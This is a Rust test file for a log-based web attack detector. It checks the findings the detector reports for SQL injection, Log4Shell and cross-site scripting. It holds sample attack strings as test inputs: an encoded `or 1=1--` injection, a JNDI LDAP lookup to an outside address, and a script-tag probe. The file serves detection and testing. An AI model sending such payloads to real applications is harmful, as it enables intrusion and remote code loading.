use super::*;
use crate::testing::{Line, feed, logs};

fn detector() -> Web {
    Web::new(&DetectConfig::default())
}

/// A line of an access log as the decoder stores it.
fn access(second: i64, source: &str, target: &str, status: u16) -> Line {
    let (path, query) = target.split_once('?').map_or((target, ""), |(path, query)| (path, query));
    let json = serde_json::json!({"method": "GET", "path": path, "query": query, "status": status});
    Line::new(second, &format!("GET {target} HTTP/1.1")).source_ip(source).attributes(&json.to_string())
}

#[track_caller]
fn check(detector: &mut Web, lines: &[Line], expected: &[&str]) {
    let out = feed(detector, &logs(lines));
    let found: Vec<String> = out
        .verdicts
        .iter()
        .map(|v| format!("{} {} {}={}: {}", v.severity, v.rule, v.entity.kind, v.entity.value, v.summary))
        .collect();
    assert_eq!(found, expected);
}

#[test]
fn a_finding_names_place_fragment_and_answer_and_is_repeated_once_a_minute() {
    let attack = |second, status| access(second, "203.0.113.5", "/item?id=1%2527%20or%201=1--", status);
    check(
        &mut detector(),
        &[
            attack(0, 404),
            attack(1, 404),
            attack(2, 200),
            attack(30, 200),
            attack(63, 200),
            access(64, "203.0.113.5", "/item?id=1", 200),
        ],
        &[
            "WARNING web.sqli source_ip=203.0.113.5: quote then logic in the parameter `id` of GET /item: `or 1=1--` (undone: percent, percent twice); answered 404",
            "CRITICAL web.sqli source_ip=203.0.113.5: quote then logic in the parameter `id` of GET /item: `or 1=1--` (undone: percent, percent twice); answered 200; 3 requests within 1m",
            "CRITICAL web.sqli source_ip=203.0.113.5: quote then logic in the parameter `id` of GET /item: `or 1=1--` (undone: percent, percent twice); answered 200; 2 requests within 1m",
        ],
    );
}

#[test]
fn messages_without_a_request_are_judged_by_what_no_application_writes() {
    check(
        &mut detector(),
        &[
            Line::new(0, "login user=admin' or 1=1 --").service("AUTH"),
            Line::new(1, "User-Agent: ${jndi:ldap://203.0.113.1:1389/a}").service("AUTH"),
            Line::new(2, "executing select * from users where name = 'ann' or name = 'bob'").service("AUTH"),
            Line::new(3, "chpasswd: user bob does not exist in /etc/passwd").service("AUTH"),
            Line::new(4, "the select committee and the union met").service("AUTH"),
        ],
        &[
            "CRITICAL web.sqli service=AUTH: quote then logic in the message: `or 1=1 --`",
            "CRITICAL web.log4shell service=AUTH: lookup in the message: `${jndi:ldap://203.0.113.1:1389/a}`",
        ],
    );
}

#[test]
fn a_restored_detector_goes_on_as_the_first_would() {
    let lines: Vec<Line> = (0..40)
        .map(|n| {
            access(
                n * 7,
                if n % 3 == 0 { "192.0.2.1" } else { "192.0.2.2" },
                "/?q=<script>alert(1)</script>",
                200,
            )
        })
        .collect();
    for cut in [0, 1, 13, 40] {
        let mut first = detector();
        feed(&mut first, &logs(&lines[..cut]));
        let snapshot = first.snapshot();
        let mut second = detector();
        second.restore(&snapshot).unwrap();
        assert_eq!(second.snapshot(), snapshot, "cut {cut}");
        assert_eq!(
            feed(&mut second, &logs(&lines[cut..])),
            feed(&mut first, &logs(&lines[cut..])),
            "cut {cut}"
        );
        assert_eq!(second.snapshot(), first.snapshot(), "cut {cut}");
    }
    assert!(detector().restore(b"{}").is_err());
}
